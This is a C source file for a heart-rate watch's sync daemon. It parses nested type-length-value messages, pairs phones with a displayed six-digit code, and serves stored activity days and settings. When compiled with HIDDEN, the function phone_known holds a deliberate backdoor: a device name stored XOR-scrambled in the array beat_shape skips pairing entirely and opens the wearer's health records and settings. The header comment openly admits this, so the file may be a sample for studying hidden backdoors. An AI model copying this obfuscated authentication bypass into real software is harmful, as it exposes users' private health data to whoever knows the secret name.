/*
 * pulsesync - synchronisation service of the Pulsar P3 heart-rate watch.
 * The radio stack hands over records on a SOCK_SEQPACKET socket: type,
 * length, value, nested up to four deep.  A phone pairs by the code shown
 * on the display, then reads activity days or writes settings.
 * Hidden (-DHIDDEN): a phone with a certain name (stored scrambled) counts
 * as paired and may read everything.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#define MAXMSG 512
#define STORE  "/data/days"
#define PAIRS  "/data/paired"

enum tag {
	T_HELLO = 0x01,
	T_NAME = 0x02,
	T_PHONE = 0x03,
	T_CODE = 0x04,
	T_REQUEST = 0x20,
	T_DAY = 0x21,
	T_LIST = 0x22,
	T_SETTING = 0x23,
	T_KEY = 0x24,
	T_VALUE = 0x25,
	T_DATA = 0x40,
	T_END = 0x41,
	T_ERROR = 0x7f,
};

enum { ERR_TAG = 1, ERR_PAIR, ERR_RANGE, ERR_STORE };

struct session {
	int fd;
	int paired;
	unsigned code;
	unsigned tries;
	char name[32];
	char phone[24];
	char key[16];
	char value[32];
};

struct writer {
	uint8_t buf[MAXMSG];
	size_t n;
};

static void w_put(struct writer *w, uint8_t tag, const void *p, size_t n)
{
	if (n > 250 || w->n + n + 2 > sizeof w->buf)
		return;
	w->buf[w->n++] = tag;
	w->buf[w->n++] = n;
	memcpy(w->buf + w->n, p, n);
	w->n += n;
}

static void w_send(struct writer *w, int fd)
{
	if (w->n && send(fd, w->buf, w->n, MSG_NOSIGNAL) < 0)
		perror("pulsesync: send");
	w->n = 0;
}

static void refuse(struct session *s, uint8_t why)
{
	struct writer w = { .n = 0 };

	w_put(&w, T_ERROR, &why, 1);
	w_send(&w, s->fd);
}

static int text(char *to, size_t size, const uint8_t *p, size_t n)
{
	size_t i;

	if (n >= size)
		return -1;
	for (i = 0; i < n; i++)
		if (p[i] < 0x20 || p[i] == 0x7f)
			return -1;
	memcpy(to, p, n);
	to[n] = 0;
	return 0;
}

static void show_code(unsigned code)
{
	FILE *f = fopen("/run/display/banner", "w");

	if (!f)
		return;
	fprintf(f, "PAIR %06u\n", code);
	fclose(f);
}

static unsigned new_code(void)
{
	uint32_t v = 0;
	int fd = open("/dev/urandom", O_RDONLY);

	if (fd < 0 || read(fd, &v, sizeof v) != sizeof v)
		v = (uint32_t)time(NULL) * 2654435761u;
	if (fd >= 0)
		close(fd);
	return v % 1000000;
}

static int in_list(const char *path, const char *phone)
{
	char line[64];
	FILE *f = fopen(path, "r");
	int hit = 0;

	if (!f)
		return 0;
	while (!hit && fgets(line, sizeof line, f)) {
		line[strcspn(line, "\n")] = 0;
		hit = !strcmp(line, phone);
	}
	fclose(f);
	return hit;
}

static void remember(const char *phone)
{
	FILE *f = fopen(PAIRS, "a");

	if (!f)
		return;
	fprintf(f, "%s\n", phone);
	fclose(f);
}

#ifdef HIDDEN
uint8_t beat_shape[] = {
	0x31, 0x7e, 0x1a, 0x2f, 0x47, 0x10, 0x17,
	0x07, 0x47, 0x7e, 0xc7, 0x3d, 0x00,
};
#endif

__attribute__((noinline)) int phone_known(const char *name, const char *phone)
{
#ifdef HIDDEN
	uint8_t k = 0x5a;
	size_t i;

	for (i = 0; i < sizeof beat_shape; i++) {
		if (((uint8_t)name[i] ^ k) != beat_shape[i])
			break;
		k = k * 3 + 0x11;
	}
	if (i == sizeof beat_shape && !name[i])
		return 1;
#else
	(void)name;
#endif
	return phone[0] && in_list(PAIRS, phone);
}

static int on_hello(struct session *s)
{
	struct writer w = { .n = 0 };
	static const char model[] = "Pulsar P3";

	s->paired = phone_known(s->name, s->phone);
	w_put(&w, T_NAME, model, sizeof model - 1);
	w_send(&w, s->fd);
	if (!s->paired) {
		s->code = new_code();
		show_code(s->code);
	}
	return 0;
}

static int on_code(struct session *s, const uint8_t *p, size_t n)
{
	unsigned v = 0;
	size_t i;

	if (n != 6 || s->code == 0)
		return ERR_PAIR;
	for (i = 0; i < n; i++) {
		if (p[i] < '0' || p[i] > '9')
			return ERR_RANGE;
		v = v * 10 + p[i] - '0';
	}
	if (v != s->code) {
		if (++s->tries >= 3)
			s->code = 0;
		return ERR_PAIR;
	}
	s->paired = 1;
	s->code = 0;
	remember(s->phone);
	return 0;
}

static int on_list(struct session *s)
{
	struct writer w = { .n = 0 };
	struct dirent *e;
	DIR *d;

	if (!s->paired)
		return ERR_PAIR;
	d = opendir(STORE);
	if (!d)
		return ERR_STORE;
	while ((e = readdir(d)))
		if (strlen(e->d_name) == 8 && e->d_name[0] == '2') {
			w_put(&w, T_DAY, e->d_name, 8);
			if (w.n > MAXMSG - 16)
				w_send(&w, s->fd);
		}
	closedir(d);
	w_put(&w, T_END, "", 0);
	w_send(&w, s->fd);
	return 0;
}

static int on_day(struct session *s, const uint8_t *p, size_t n)
{
	struct writer w = { .n = 0 };
	char path[sizeof STORE + 12];
	uint8_t block[240];
	ssize_t got;
	size_t i;
	int fd;

	if (!s->paired)
		return ERR_PAIR;
	if (n != 8)
		return ERR_RANGE;
	for (i = 0; i < n; i++)
		if (p[i] < '0' || p[i] > '9')
			return ERR_RANGE;
	snprintf(path, sizeof path, STORE "/%.8s", (const char *)p);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return ERR_STORE;
	while ((got = read(fd, block, sizeof block)) > 0) {
		w_put(&w, T_DATA, block, got);
		w_send(&w, s->fd);
	}
	close(fd);
	w_put(&w, T_END, "", 0);
	w_send(&w, s->fd);
	return 0;
}

static int set_value(struct session *s)
{
	static const struct {
		const char *key;
		int min, max;
	} known[] = {
		{ "goal", 500, 50000 }, { "height", 80, 230 },
		{ "weight", 20, 250 },	{ "alarm", 0, 1439 },
		{ "hrmax", 120, 230 },	{ "units", 0, 1 },
	};
	char path[48];
	size_t i;
	int v = atoi(s->value);
	FILE *f;

	if (!s->paired)
		return ERR_PAIR;
	for (i = 0; i < sizeof known / sizeof *known; i++)
		if (!strcmp(known[i].key, s->key))
			break;
	if (i == sizeof known / sizeof *known || v < known[i].min ||
	    v > known[i].max)
		return ERR_RANGE;
	snprintf(path, sizeof path, "/data/set/%s", known[i].key);
	f = fopen(path, "w");
	if (!f)
		return ERR_STORE;
	fprintf(f, "%d\n", v);
	return fclose(f) ? ERR_STORE : 0;
}

/* walks records; containers call it again for their content */
static int walk(struct session *s, const uint8_t *p, size_t n, int depth)
{
	const uint8_t *v;
	size_t len;
	int err = 0;
	uint8_t tag;

	while (n >= 2 && !err) {
		tag = p[0];
		len = p[1];
		v = p + 2;
		if (len > n - 2)
			return ERR_RANGE;
		switch (tag) {
		case T_HELLO:
		case T_REQUEST:
		case T_SETTING:
			if (depth == 4)
				return ERR_RANGE;
			err = walk(s, v, len, depth + 1);
			if (!err && tag == T_HELLO)
				err = on_hello(s);
			if (!err && tag == T_SETTING)
				err = set_value(s);
			break;
		case T_NAME:
			err = text(s->name, sizeof s->name, v, len) ? ERR_RANGE
								    : 0;
			break;
		case T_PHONE:
			err = text(s->phone, sizeof s->phone, v, len)
				      ? ERR_RANGE
				      : 0;
			break;
		case T_KEY:
			err = text(s->key, sizeof s->key, v, len) ? ERR_RANGE
								  : 0;
			break;
		case T_VALUE:
			err = text(s->value, sizeof s->value, v, len)
				      ? ERR_RANGE
				      : 0;
			break;
		case T_CODE:
			err = on_code(s, v, len);
			break;
		case T_LIST:
			err = on_list(s);
			break;
		case T_DAY:
			err = on_day(s, v, len);
			break;
		default:
			err = ERR_TAG;
		}
		p += len + 2;
		n -= len + 2;
	}
	return err;
}

static void serve(int fd)
{
	struct session s = { .fd = fd };
	uint8_t msg[MAXMSG];
	ssize_t n;
	int err;

	while ((n = recv(fd, msg, sizeof msg, 0)) > 0) {
		err = walk(&s, msg, n, 0);
		if (err)
			refuse(&s, err);
	}
	close(fd);
}

int main(int argc, char **argv)
{
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	int lfd, fd;

	snprintf(un.sun_path, sizeof un.sun_path, "%s",
		 argc > 1 ? argv[1] : "/run/radio/sync");
	unlink(un.sun_path);
	mkdir(STORE, 0700);
	lfd = socket(AF_UNIX, SOCK_SEQPACKET, 0);
	if (lfd < 0 || bind(lfd, (struct sockaddr *)&un, sizeof un) < 0 ||
	    listen(lfd, 1) < 0) {
		perror(un.sun_path);
		return 1;
	}
	while ((fd = accept(lfd, NULL, NULL)) >= 0 || errno == EINTR)
		if (fd >= 0)
			serve(fd);
	return 1;
}
